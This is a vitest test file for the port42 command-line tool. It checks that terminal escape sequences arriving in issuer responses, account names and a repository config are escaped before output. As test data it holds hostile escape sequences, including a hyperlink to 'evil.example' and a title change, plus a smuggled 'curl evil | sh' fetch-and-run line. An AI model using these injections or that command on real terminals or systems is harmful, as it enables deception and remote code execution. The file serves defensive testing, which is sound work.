// Untrusted text reaches the terminal escaped: the pure function, a device authorization answer
// from the real test issuer with escape sequences spliced in, and a repository's .port42.toml
// naming a "profile" made of escape sequences, through the real executable.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatError, Port42Error } from '../../src/errors.ts';
import { renderStatusTable, renderStatusTsv, type StatusRow } from '../../src/status/table.ts';
import { escapeControl } from '../../src/terminal/escape.ts';
import { createSandbox, runCli } from '../support/cli.ts';
import { startOidcServer, type OidcServer } from '../support/oidc/server.ts';
import { errorOf } from '../support/test-context.ts';
import { inProcess, LOGIN, oauthConfig } from '../oauth/helpers.ts';

/** Any C0/C1 control character except the line feed that ends port42's lines. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('escapeControl', () => {
  it.each([
    ['plain text', 'plain text'],
    ['\u001b[2J\u001b]0;title\u0007', '\\e[2J\\e]0;title\\x07'],
    ['a\r\nb\tc', 'a\\r\\nb\\tc'],
    ['nul\u0000 del\u007f', 'nul\\x00 del\\x7f'],
    ['csi\u009b31m osc\u009d', 'csi\\x9b31m osc\\x9d'],
    ['ünïcödé ✓ \u00a0kept', 'ünïcödé ✓ \u00a0kept'],
  ])('escapes %j', (input, expected) => {
    expect(escapeControl(input)).toBe(expected);
  });

  it('keeps line feeds only when asked (whole messages port42 composed)', () => {
    expect(escapeControl('one\ntwo\u001b', { keepNewlines: true })).toBe('one\ntwo\\e');
    expect(escapeControl('one\ntwo')).toBe('one\\ntwo');
  });

  it('is applied by formatError to messages and hints', () => {
    const text = formatError(new Port42Error('failure', 'bad\u001b[31m', { hint: 'x\u0007' }), false);
    expect(text).toBe('port42: bad\\e[31m\n  run: x\\x07\n');
    expect(formatError(new Error('boom\u009b'), false)).not.toMatch(RAW_CONTROL);
  });
});

describe('auth status rows', () => {
  it("escapes the issuer's account name and the detail in the table and the TSV", () => {
    const row: StatusRow = {
      profile: 'gw',
      provider: 'anthropic',
      auth: 'oauth',
      store: 'keychain',
      state: 'invalid',
      source: 'oauth',
      account: 'eve\u001b]0;owned\u0007@example.test',
      detail: 'issuer said \u001b[2J',
      isDefault: true,
      usable: false,
    };
    const table = renderStatusTable([row], 0);
    expect(table).not.toMatch(RAW_CONTROL);
    expect(table).toContain('eve\\e]0;owned\\x07@example.test');
    expect(table).toContain('issuer said \\e[2J');
    expect(renderStatusTsv([row], 0)).toContain('eve\\e]0;owned\\x07@example.test');
  });
});

describe('device sign-in text from the issuer', () => {
  let server: OidcServer;
  beforeAll(async () => {
    server = await startOidcServer();
  });
  afterAll(async () => {
    await server?.close();
  });

  it('prints verification_uri, verification_uri_complete and user_code escaped', async () => {
    // The real device authorization answer, with escape sequences spliced into what is shown.
    const hostile: typeof fetch = async (input, init) => {
      const response = await fetch(input, init);
      if (!String(input instanceof Request ? input.url : input).endsWith('/device/auth')) return response;
      const body = (await response.json()) as Record<string, unknown>;
      body.verification_uri = `${String(body.verification_uri)}\u001b]8;;https://evil.example\u0007`;
      body.verification_uri_complete = `${String(body.verification_uri_complete)}\u009b2J`;
      body.user_code = `\u001b[8m${String(body.user_code)}`;
      return Response.json(body, { status: response.status });
    };
    const p = await inProcess(oauthConfig(server.issuer, { flow: '"device"' }), {
      fetch: hostile,
      system: { sleep: async () => Promise.reject(new Port42Error('cancelled', 'cancelled')) },
    });
    const error = await errorOf(p.source.login(p.deps, p.profile, LOGIN));
    expect(error.code).toBe('cancelled');
    expect(p.t.stderr.text).not.toMatch(RAW_CONTROL);
    expect(p.t.stderr.text).toMatch(/\/device\\e\]8;;https:\/\/evil\.example\\x07 and enter the code: \\e\[8m\S+/);
    expect(p.t.stderr.text).toMatch(/user_code=\S+\\x9b2J/);
  });
});

describe('a directory file naming a hostile profile', () => {
  it('never puts its escape sequences on stderr', async () => {
    const sandbox = createSandbox();
    try {
      sandbox.writeConfig('default = "work"\n[profiles.work]\nprovider = "openai"\nauth = "env"\nfrom_env = "WORK_KEY"\n');
      const repo = join(sandbox.home, 'clone\u001b[31m');
      mkdirSync(repo);
      writeFileSync(join(repo, '.port42.toml'), 'profile = "\\u001b]0;owned\\u0007\\u001b[2J\\nrun: curl evil | sh"\n');
      const env = { WORK_KEY: 'sk-test-0123456789' };
      const check = async (args: string[]) => {
        const result = await runCli(sandbox, args, { cwd: repo, env });
        expect(result.stderr, args.join(' ')).not.toMatch(RAW_CONTROL);
        expect(
          result.stderr.split('\n').filter((line) => /^\s*run: curl/.test(line)),
          args.join(' '),
        ).toEqual([]);
        return result;
      };
      // Untrusted: ignored with a note naming the (hostile) directory; once trusted, the name is used.
      for (const args of [
        ['auth', 'token'],
        ['env', '--shell', 'bash'],
        ['profile', 'list'],
      ])
        await check(args);
      await check(['trust', repo]);
      const token = await check(['auth', 'token']);
      expect(token.code).toBe(3);
      expect(token.stderr).toContain('no profile named "\\e]0;owned\\x07\\e[2J\\nrun: curl evil | sh"');
      for (const args of [
        ['env', '--shell', 'bash'],
        ['profile', 'list'],
      ])
        await check(args);
    } finally {
      sandbox.cleanup();
    }
  });
});
